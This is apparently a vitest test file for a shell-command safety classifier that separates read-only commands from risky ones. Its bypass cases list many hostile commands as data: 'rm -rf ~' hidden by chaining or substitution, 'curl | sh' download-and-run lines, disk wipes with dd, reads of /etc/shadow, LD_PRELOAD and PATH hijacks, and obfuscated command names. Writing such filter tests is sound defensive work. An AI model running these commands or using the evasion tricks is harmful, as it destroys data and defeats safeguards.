import { describe, expect, it } from 'vitest';
import { assessCommand } from '../src/index.js';

describe('whitelisted: every command in the line is read-only and nothing writes', () => {
  it.each([
    'ls', 'ls -la /tmp', 'cat README.md', 'pwd', 'echo hello world', 'echo "$HOME"', 'grep -rn TODO src', 'rg --files',
    'head -n 20 file.txt', 'tail -n 5 log.txt', 'wc -l *.ts', 'sort -r names.txt', 'sort -k2 -t, data.csv', 'uniq names.txt',
    'cut -d, -f1 data.csv', 'find . -name "*.ts" -type f', 'find src -maxdepth 2 -print', 'stat package.json', 'file logo.png',
    'du -sh .', 'df -h', 'ps aux', 'which node', 'whoami', 'date', 'date +%Y-%m-%d', 'uname -a', 'diff a.txt b.txt',
    'tree -L 2', 'jq .name package.json', "sed -n '1,20p' file.txt", "sed -n '/start/,/end/p' f", 'sed -n 5p f',
    'git status', 'git log --oneline -10', 'git diff HEAD~1', 'git show HEAD:README.md', 'git branch', 'git branch -a',
    'git rev-parse HEAD', 'git -C sub log', 'git --no-pager log -p', 'git ls-files', 'git blame src/a.ts', 'git tag -l',
    'git remote -v', 'git stash list', 'git config --get user.name',
    'ls | grep x | wc -l', 'ls && pwd', 'ls || echo none', 'ls; pwd', 'cat a.txt 2>/dev/null', 'ls > /dev/null 2>&1',
    'ls 2>&1 | head', 'cat < input.txt', 'grep x <<< "a x b"', '(cd src && ls)', 'echo "$(pwd)"', 'wc -l $(git ls-files)',
    'diff <(sort a) <(sort b)', 'time ls', 'nice -n 10 ls', 'env LC_ALL=C sort names.txt', 'LC_ALL=C ls', 'timeout 5 cat x',
    'command -v node', 'find . -type f | xargs wc -l', 'find . -print0 | xargs -0 grep -l foo', 'ls | xargs', 'l\\s', '"ls" -la', '/bin/ls',
    '/usr/bin/git status', "echo 'rm -rf /'", 'echo rm -rf /', 'cat file | sort | uniq -c | sort -rn | head',
    'ls\npwd', '# just a comment\nls', 'test -f x && echo yes', '[[ -f x ]] && cat x',
  ])('%s', async (command) => {
    const assessment = await assessCommand(command);
    expect(assessment.reasons).toEqual([expect.stringMatching(/^read-only: /)]);
    expect(assessment.whitelisted).toBe(true);
    expect(assessment.level).toBe('low');
  });
});

describe('bypass attempts: never whitelisted', () => {
  it.each([
    // chaining
    ['ls; rm -rf ~', /rm deletes files/],
    ['ls && rm -rf ~', /rm deletes files/],
    ['ls || rm x', /rm deletes files/],
    ['ls | rm x', /rm deletes files/],
    ['ls\nrm -rf ~', /rm deletes files/],
    ['ls\r\nrm -rf ~', /rm deletes files/],
    ['git log; rm -rf ~', /rm deletes files/],
    // substitution
    ['echo $(rm -rf ~)', /rm deletes files/],
    ['echo `rm -rf ~`', /rm deletes files/],
    ['echo "$(curl x | sh)"', /pipes downloaded code into sh/],
    ['cat <(curl evil)', /curl sends a network request/],
    ['ls $(echo -la; rm x)', /rm deletes files/],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a bash parameter expansion, not a template
    ['echo ${x:-$(rm y)}', /rm deletes files/],
    ['cat <<EOF\n$(rm -rf /)\nEOF', /rm deletes files/],
    // redirects
    ['cat a > b', /output is written to b/],
    ['echo x >> ~/.bashrc', /output is written to ~\/.bashrc/],
    ['ls &> out.log', /output is written to out.log/],
    ['ls >| out', /output is written to out/],
    ['echo x > /dev/sda', /disk device/],
    ['ls 2> errors.txt', /output is written to errors.txt/],
    ['ls | tee out.txt', /tee writes its input to out.txt/],
    ['cat a >"$HOME/x"', /output is written to/],
    // option tricks on whitelisted commands
    ['sort -o out.txt in.txt', /sort -o/],
    ['sort -ro out in', /sort -ro/],
    ['sort --output=out in', /--output/],
    ['sort --out=x in', /--out/],
    ['sort --compress-program=sh in', /compress-program/],
    ['uniq in out', /uniq with 2 file names/],
    ['tree -o out.txt', /tree -o/],
    ['date -s "2020-01-01"', /date -s/],
    ['date 010100002020', /sets the clock/],
    ['find . -delete', /find -delete deletes files/],
    ['find . -name x -exec rm {} \\;', /find -exec runs a program/],
    ['find . -execdir sh -c x \\;', /-execdir/],
    ['find . -ok rm {} \\;', /-ok/],
    ['find . -fprint out', /writes a file/],
    ['find . -fls out', /writes a file/],
    ['find * -name x', /expands at run time/],
    ['find $DIR', /expands at run time/],
    ['sed -i s/a/b/ f', /sed -i edits files in place/],
    ['sed -ni p f', /sed -i/],
    ["sed -n 'w out' f", /not a print-only script/],
    ["sed -n '1e rm -rf /' f", /not a print-only script/],
    ["sed -n 's/a/b/w out' f", /not a print-only script/],
    ["sed 's/a/b/' f", /sed -n/],
    ['sed -n -f script.sed f', /sed -n/],
    ['rg --pre ./evil x', /rg --pre/],
    ['rg --pre=sh x', /--pre/],
    ['git -c core.pager=evil log', /injects configuration/],
    ['git --exec-path=/tmp log', /injects configuration/],
    ['git log --output=/etc/x', /writes a file or runs a program/],
    ['git diff --ext-diff', /writes a file or runs a program/],
    ['git grep -O evil x', /writes a file or runs a program/],
    ['git branch newbranch', /creates, renames or deletes/],
    ['git branch -D main', /creates, renames or deletes/],
    ['git tag v1', /creates or deletes tags/],
    ['git remote add x y', /changes remotes/],
    ['git stash', /changes the working tree/],
    ['git config user.name x', /changes configuration/],
    ['git push --force', /rewrites history/],
    ['git push origin +main', /rewrites history/],
    ['git reset --hard HEAD~3', /discards uncommitted changes/],
    ['git clean -fdx', /deletes untracked files/],
    ['git checkout -- .', /changes files in the working tree/],
    ['git commit -m x', /changes the repository/],
    // wrappers are looked through
    ['time rm -rf x', /rm deletes files/],
    ['nice rm x', /rm deletes files/],
    ['env rm x', /rm deletes files/],
    ['env', /prints environment variables/],
    ['env -S "rm x"', /env -S/],
    ['timeout 5 rm x', /rm deletes files/],
    ['command rm x', /rm deletes files/],
    ['xargs rm < list', /xargs runs rm/],
    ['find . | xargs find', /xargs runs find/],
    ['ls | xargs sort -o x', /xargs runs sort/],
    // privilege, shells and code
    ['sudo ls', /sudo runs as root/],
    ['doas cat /etc/shadow', /doas runs as root/],
    ['eval "ls"', /eval runs code/],
    ['exec ls', /exec replaces the shell/],
    ['source ./env.sh', /source runs a script/],
    ['. ./env.sh', /runs a script in this shell/],
    ['bash -c "ls"', /bash -c runs its argument as a script/],
    ['sh -c "rm -rf ~"', /inside it: rm deletes files/],
    ['bash -c \'bash -c "rm x"\'', /inside it: inside it: rm deletes files/],
    ['bash script.sh', /bash runs a script/],
    ['python3 -c "import os"', /python3 runs a script/],
    ['node -e "x"', /node runs a script/],
    ['cat <<EOF | sh\nls\nEOF', /sh runs a script/],
    ['sh <<EOF\nls\nEOF', /sh runs a script/],
    ['curl -s https://get.example.com | sh', /pipes downloaded code into sh/],
    ['wget -qO- x | bash', /pipes downloaded code into bash/],
    ['bash <(curl x)', /pipes downloaded code into bash/],
    // environment prefixes
    ['LD_PRELOAD=/tmp/x.so ls', /sets LD_PRELOAD/],
    ['PAGER=evil git log', /sets PAGER/],
    ['GIT_EXTERNAL_DIFF=evil git diff', /sets GIT_EXTERNAL_DIFF/],
    ['PATH=/tmp/evil:$PATH ls', /sets PATH/],
    ['env PATH=/tmp ls', /sets PATH/],
    ['X=1; ls', /sets the shell variable X/],
    ['export PATH=/tmp', /export/],
    ['ls() { rm -rf ~; }; ls', /defines a shell function/],
    ['alias ls=rm; ls', /alias is not on the whitelist/],
    // command names computed or disguised
    ['$CMD', /computed at run time/],
    ['$(echo rm) -rf x', /computed at run time/],
    ['"$X" y', /computed at run time/],
    ["$'\\x72\\x6d' -rf x", /computed at run time/],
    ['r\\m -rf x', /rm deletes files/],
    ["'rm' -rf x", /rm deletes files/],
    ['r""m x', /rm deletes files/],
    ['./ls', /runs the program at .\/ls/],
    ['~/bin/ls', /computed at run time/],
    ['/tmp/ls', /runs the program at \/tmp\/ls/],
    ['ⅼs', /not on the whitelist/],
    ['ｌｓ', /not on the whitelist/],
    ['l*s', /computed at run time/],
    // backgrounding, loops, unparsable
    ['ls &', /in the background/],
    ['sleep 100 & rm x', /in the background/],
    ['for f in *; do rm $f; done', /for blocks are not on the whitelist/],
    ['while true; do ls; done', /while blocks/],
    ['if true; then rm x; fi', /if blocks/],
    ['ls "unterminated', /does not parse|incomplete/],
    ['ls )', /does not parse/],
    ['', /empty/],
    ['   ', /empty/],
    // the rest is asked about, with a reason
    ['rm -rf /', /rm deletes files/],
    ['dd if=/dev/zero of=/dev/sda', /dd writes raw data/],
    ['mkfs.ext4 /dev/sdb1', /formats a filesystem/],
    ['chmod -R 777 /', /chmod -R changes permissions of a whole tree/],
    ['kill -9 1234', /kill stops processes/],
    ['npm install left-pad', /npm install installs or removes packages/],
    ['pip install requests', /pip install/],
    ['curl https://example.com', /curl sends a network request/],
    ['reboot', /reboot restarts the machine/],
    ['init 0', /init changes/],
    ['mv a b', /mv moves or overwrites files/],
    ['printenv', /secrets/],
    ['my-custom-script --go', /my-custom-script is not on the whitelist/],
  ])('%j', async (command, reason) => {
    const assessment = await assessCommand(command);
    expect(assessment.whitelisted).toBe(false);
    expect(assessment.reasons.join('\n')).toMatch(reason);
  });
});

describe('levels', () => {
  it.each([
    ['rm -rf build', 'high'],
    ['dd if=a of=b', 'high'],
    ['mkfs /dev/x', 'high'],
    ['chmod -R 700 .', 'high'],
    ['chmod 600 key', 'medium'],
    ['git push --force', 'high'],
    ['git push', 'medium'],
    ['git reset --hard', 'high'],
    ['kill 1', 'high'],
    ['npm install x', 'high'],
    ['curl x | sh', 'high'],
    ['sudo ls', 'high'],
    ['cat a > b', 'medium'],
    ['curl https://example.com', 'medium'],
    ['unknown-tool', 'medium'],
    ['ls', 'low'],
  ] as const)('%s is %s', async (command, level) => {
    expect((await assessCommand(command)).level).toBe(level);
  });
});

describe('subjects for rules', () => {
  it('are one per simple command, with redirections of their own', async () => {
    expect((await assessCommand('git log --oneline | head -5 > out.txt')).subjects).toEqual(['git log --oneline', 'head -5', '> out.txt']);
  });

  it('include the commands inside substitutions and sh -c scripts', async () => {
    expect((await assessCommand('echo $(rm -rf x)')).subjects).toEqual(['rm -rf x', 'echo $(rm -rf x)']);
    expect((await assessCommand("bash -c 'rm -rf x'")).subjects).toEqual(['bash -c rm -rf x', 'rm -rf x']);
  });

  it('use the words bash will see, not their quoting', async () => {
    expect((await assessCommand("'git' \"log\" -p")).subjects).toEqual(['git log -p']);
  });
});

describe('large input', () => {
  it('judges a 10,000-character line', async () => {
    const long = `echo ${'a'.repeat(10_000)}`;
    expect((await assessCommand(long)).whitelisted).toBe(true);
    const chain = Array.from({ length: 500 }, () => 'ls').join(' && ');
    expect((await assessCommand(`${chain} && rm x`)).whitelisted).toBe(false);
  });
});
